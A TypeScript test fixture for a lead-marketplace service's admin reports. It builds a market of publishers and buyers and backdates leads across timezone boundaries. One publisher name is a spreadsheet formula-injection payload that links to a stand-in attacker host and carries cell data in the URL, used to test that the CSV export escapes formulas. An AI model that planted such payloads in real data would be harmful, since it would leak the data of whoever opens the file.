import type { GetReportResponse } from '@leadflow/proto/leadflow/admin/v1/reports';
import { reportGroupings } from '@leadflow/service-kit/admin-enums';
import { timestampOfMs } from '@leadflow/service-kit/proto-time';
import { startBuyerServer, type TestBuyerServer } from './buyer-server.js';
import { testBuyer } from './buyers.js';
import { startTestDistribution, type TestDistribution } from './distribution.js';
import { bearer, call } from './grpc.js';
import { validLeadBody } from './leads.js';
import type { TestDatabase } from './test-database.js';

/** A publisher name that needs quoting in CSV. */
export const ACME = 'Acme, "Loans" Inc';
export const BRIGHT = 'Bright Leads';
/** A publisher name that a spreadsheet would run as a formula, were the CSV export to pass it as it is. */
export const NIGHT_OWL = '=HYPERLINK("https://evil.example/?d="&A1,"Night Owl")';

/**
 * Leads moved to chosen times after being sold, as UTC instants: around midnight in New York on the day
 * daylight saving time starts (2026-03-08), and around a local hour boundary in Kathmandu (UTC+5:45).
 */
export const MIDNIGHT_LEADS = {
  lastOfMarch7InNewYork: Date.parse('2026-03-08T04:59:59.999Z'),
  firstOfMarch8InNewYork: Date.parse('2026-03-08T05:00:00.000Z'),
  lastOfMarch8InNewYork: Date.parse('2026-03-09T03:59:59.999Z'),
  firstOfMarch9InNewYork: Date.parse('2026-03-09T04:00:00.000Z'),
  lastOf5amInKathmandu: Date.parse('2026-03-10T00:14:59.999Z'),
  firstOf6amInKathmandu: Date.parse('2026-03-10T00:15:00.000Z'),
} as const;
export const MARCH_2026 = { fromMs: Date.parse('2026-03-01T00:00:00Z'), toMs: Date.parse('2026-04-01T00:00:00Z') };

/** Twenty leads created in February 2026 whose processing times are 1 to 20 ms. */
export const FEBRUARY_2026 = { fromMs: Date.parse('2026-02-01T00:00:00Z'), toMs: Date.parse('2026-03-01T00:00:00Z') };
export const FEBRUARY_PROCESSING_MS = Array.from({ length: 20 }, (_, index) => index + 1);

/** A report request as the tests write it: a grouping by name, times in epoch ms (absent = unbounded). */
export interface ReportQuery {
  groupBy?: string;
  fromMs?: number;
  toMs?: number;
  timezone?: string;
  includeTest?: boolean;
}

export interface ReportMarket {
  stack: TestDistribution;
  /** Before the first lead: from here on, only the live market's leads (the moved ones are older). */
  liveFromMs: number;
  publishers: { acme: string; bright: string; nightOwl: string };
  buyers: Record<'flaky' | 'slow' | 'picky' | 'alpha' | 'beta', string>;
  report(request: ReportQuery): Promise<GetReportResponse>;
  close(): Promise<void>;
}

async function soldOrRejected(stack: TestDistribution, key: string, body: Record<string, unknown>): Promise<string> {
  const { outcome } = await stack.submit(key, body);
  if (outcome?.$case !== 'sold' && outcome?.$case !== 'rejected')
    throw new Error(`unexpected outcome ${JSON.stringify(outcome)}`);
  return outcome.value.leadId;
}

/**
 * A real market on a real service. Buyers in tiers, one each, tried in this order: Flaky answers 500, Slow never answers (its
 * post times out, which its contract counts as a decline), Picky rejects, Alpha buys at $25, Beta at $30. Acme (80 % payout
 * share) sends 2 test leads and 4 live ones: 2 sold to Alpha, 1 to Beta, 1 unsold. Bright (70 %)
 * sends 2 live leads, both sold to Alpha. Night Owl's leads are moved back in time: the midnight
 * leads into March 2026, twenty more into February with chosen processing times.
 */
export async function startReportMarket(database: TestDatabase): Promise<ReportMarket> {
  const stack = await startTestDistribution(database);
  const server: TestBuyerServer = await startBuyerServer();
  const admin = stack.admin;
  const token = () => bearer(stack.service.adminToken);
  const createPublisher = async (name: string, payoutShareBps: number) => {
    const created = await call(
      admin.createPublisher.bind(admin),
      { name, rateLimitPerMinute: 10_000, payoutShareBps },
      token(),
    );
    return { id: created.publisher!.id, key: created.key };
  };
  const acme = await createPublisher(ACME, 8000);
  const bright = await createPublisher(BRIGHT, 7000);
  const nightOwl = await createPublisher(NIGHT_OWL, 8000);

  server.behave('/flaky', { kind: 'status', status: 500 });
  server.behave('/slow', { kind: 'hang' });
  server.behave('/picky', { kind: 'reject', reason: 'not today' });
  server.behave('/alpha', { kind: 'accept' });
  server.behave('/beta', { kind: 'accept' });
  const ids = await stack.applyBuyers([
    testBuyer('Flaky', server.url('/flaky'), { tier: 1 }),
    testBuyer('Slow', server.url('/slow'), { tier: 2, integration: { timeoutMs: 150, onTimeout: 'decline' } }),
    testBuyer('Picky', server.url('/picky'), { tier: 3 }),
    testBuyer('Alpha', server.url('/alpha'), { tier: 4, pricing: { type: 'fixed', price: '25.00' } }),
    testBuyer('Beta', server.url('/beta'), { tier: 5, pricing: { type: 'fixed', price: '30.00' } }),
  ]);
  const buyers = { flaky: ids.Flaky!, slow: ids.Slow!, picky: ids.Picky!, alpha: ids.Alpha!, beta: ids.Beta! };

  const liveFromMs = Date.now();
  const submit = (key: string, overrides: Record<string, unknown> = {}) =>
    soldOrRejected(stack, key, validLeadBody(overrides));
  // Test leads first: the first buyer takes them without a call, whatever its circuit.
  await submit(acme.key, { testMode: '1' });
  await submit(acme.key, { testMode: '1' });
  await submit(acme.key);
  await submit(acme.key);
  server.behave('/alpha', { kind: 'reject', reason: 'cap reached' });
  await submit(acme.key);
  server.behave('/beta', { kind: 'reject', reason: 'cap reached' });
  await submit(acme.key);
  server.behave('/alpha', { kind: 'accept' });
  await submit(bright.key);
  await submit(bright.key);

  const db = stack.service.db;
  const moveTo = (leadId: string, createdAt: number, processingMs?: number) =>
    db
      .updateTable('leads')
      .set({ created_at: createdAt, ...(processingMs === undefined ? {} : { processing_ms: processingMs }) })
      .where('id', '=', leadId)
      .execute();
  for (const createdAt of Object.values(MIDNIGHT_LEADS)) await moveTo(await submit(nightOwl.key), createdAt);
  for (const [index, processingMs] of FEBRUARY_PROCESSING_MS.entries()) {
    await moveTo(await submit(nightOwl.key), FEBRUARY_2026.fromMs + index * 3_600_000, processingMs);
  }

  return {
    stack,
    liveFromMs,
    publishers: { acme: acme.id, bright: bright.id, nightOwl: nightOwl.id },
    buyers,
    report: ({ groupBy = '', fromMs, toMs, timezone = '', includeTest = false }) =>
      call(
        admin.getReport.bind(admin),
        {
          groupBy: reportGroupings.valueOf(groupBy),
          startTime: timestampOfMs(fromMs),
          endTime: timestampOfMs(toMs),
          timezone,
          includeTest,
        },
        token(),
      ),
    async close() {
      await stack.close();
      await server.close();
    },
  };
}
